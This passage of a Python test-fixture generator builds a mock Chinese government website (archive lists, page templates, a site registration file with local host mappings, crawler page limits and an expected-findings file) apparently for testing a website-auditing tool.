                             ('pucha.kaipuyun.cn', '/exposure/jiucuo.html', '<html><head><meta charset="utf-8"><title>我为政府网站找错</title></head></html>'.encode()),
                             ('video.kan.test', '/p.html', b'<html><head><title>video</title></head></html>')):
        site.put(name, path, data, site.moment(DATE(2026, 1, 1), name + path))


def many(site, wanted):
    """The rest of the pages that are asked for: lists whose articles nginx makes of 100 templates, each with its own number."""
    rest = wanted - site.html_pages
    if rest <= 0:
        return
    lists = -(-rest // 101)
    column = Column(WWW, '/dag/', '档案馆', 'archived', number=171)
    for number in range(100):
        made = site.ordinary(column, 1710000 + number, DATE(2019, 5, 6), path=f'/dag/templates/{number:02}.html')
        made.title += '（档案第@NUMBER@号）'
        made.body += f'<p>本件档号为@NUMBER@，归档于2019年。</p>\n<p><a href="/dag/">返回目录</a></p>\n'
        site.write_article(made)
    site.html_pages -= 100
    site.sitemaps[WWW] = [entry for entry in site.sitemaps[WWW] if not entry[0].startswith('/dag/templates/')]
    index = ''.join(f'<li><a href="/dag/{page}.html">档案目录第{page}页</a><span>2019-05-06</span></li>\n' for page in range(1, lists + 1))
    site.plain(WWW, '/dag/', '档案馆', f'<ul class="list">{index}</ul>')
    for page in range(1, lists + 1):
        items = ''.join(f'<li><a href="/dag/a/{page * 100 + number}.html">档案第{page * 100 + number}号</a><span>2019-05-06</span></li>\n' for number in range(100))
        site.plain(WWW, f'/dag/{page}.html', f'档案目录第{page}页', f'<ul class="list">{items}</ul>')
        site.html_pages += 100


def register(site):
    """What a site file says of the site, so that a test can write one; ports are put in by site.sh."""
    columns = [{'url': f'http://{column.host}{column.path}', 'name': column.name, 'class': column.kind, 'host': column.host,
                **({'days': column.days, 'warn_days': column.warn_days} if column.days else {})} for column in site.columns]
    permits = [f'http://{column.host}{article.path}' for column in site.columns for article in column.articles
               if (article.published >= PERMITS_SINCE or article.number % 10000 > 5000) and article.path not in site.unpermitted]
    sites = []
    for name, hosts, owner in (('portal', [WWW, ZW], 'www'), ('education', [JYJ], 'jyj'), ('old', [OLD], 'old')):
        sites.append({'id': name, 'name': HOSTS[hosts[0]]['name'], 'owner': HOSTS[hosts[0]]['owner'], 'code': HOSTS[hosts[0]]['code'], 'icp': ICP, 'police': POLICE,
                      'hosts': hosts, 'start': [f'http://{host}/' for host in hosts], 'sitemaps': [f'http://{host}/sitemap.xml' for host in hosts],
                      'feeds': [f'http://{host}/rss.xml' for host in hosts], 'columns': [column for column in columns if column['host'] in hosts]})
    return {'today': f'{site.today}', 'suffix': '.test', 'sites': sites, 'permits_since': f'{PERMITS_SINCE}', 'permits': permits,
            'periods': {'dynamic': {'days': 14, 'warn_days': 10}, 'announcement': {'months': 6, 'warn_months': 5}, 'policy': {'months': 6, 'warn_months': 5}},
            'home': {'days': 14, 'warn_days': 10}, 'stale_columns': {'veto': 5, 'warn': 4}, 'blank_columns': {'veto': 5, 'warn': 4},
            'resolve': {**{host: '127.0.0.1:@SITE_PORT@' for host in HOSTS}, **{host: '127.0.0.1:@OUTSIDE_PORT@' for host in OUTSIDE},
                        'closed.qxn.test': '127.0.0.1:@CLOSED_PORT@', 'fault.xingyi.test': '127.0.0.1:@FAULT_PORT@', 'tls.xingyi.test': '127.0.0.1:@TLS_PORT@'}}


def write_contents(site, pages, traps):
    """Everything under OUT."""
    from faults import FAULTS
    site.unpermitted, site.archive, site.traps = [], pages > 2100, traps
    for make in (portal, disclosure, education, abandoned, outside):
        make(site)
    for column in site.columns:
        site.write_column(column)
    for host in HOSTS:
        site.common(host)
    registered = register(site)
    if site.archive:
        many(site, pages)
    with open(os.path.join(HERE, 'nginx.conf.in'), encoding='utf-8') as template:
        conf = template.read().replace('@OUT@', os.path.abspath(site.out))
    for name, text in (('nginx.conf.in', conf), ('site.json.in', json.dumps(registered, ensure_ascii=False, indent=1))):
        with open(os.path.join(site.out, name), 'w', encoding='utf-8') as file:
            file.write(text)
    write_expected(site, FAULTS)


# Below these addresses there is no end of pages: how many a sweep may fetch of each.
TRAPS = {'/hd/rl/': 60, '/hd/list.html': 20, '/hd/zx/': 4, '/hd/yy/': 30, '/bs/': 60}


def write_expected(site, faults):
    """expected.json holds every day that was made so far."""
    name = os.path.join(site.out, 'expected.json')
    days = {}
    if site.day > 1 and os.path.exists(name):
        with open(name, encoding='utf-8') as file:
            days = json.load(file)['days']
    findings = sorted(site.expected, key=lambda one: (one['url'], one.get('check', ''), one.get('rule', '')))
    days[str(site.day)] = {'today': f'{site.today}', 'pages': site.html_pages, 'findings': findings}
    with open(name, 'w', encoding='utf-8') as file:
        json.dump({'days': days, 'traps': [{'prefix': f'http://{WWW}{path}', 'at_most': most} for path, most in TRAPS.items()],
                   'faults': [{'url': f'http://fault.xingyi.test{path}', 'what': what} for path, what in faults.items()] +
                   [{'url': 'https://tls.xingyi.test/', 'what': 'a certificate that nobody vouches for, and of another name: failed'}]}, file, ensure_ascii=False, indent=1)
        file.write('\n')
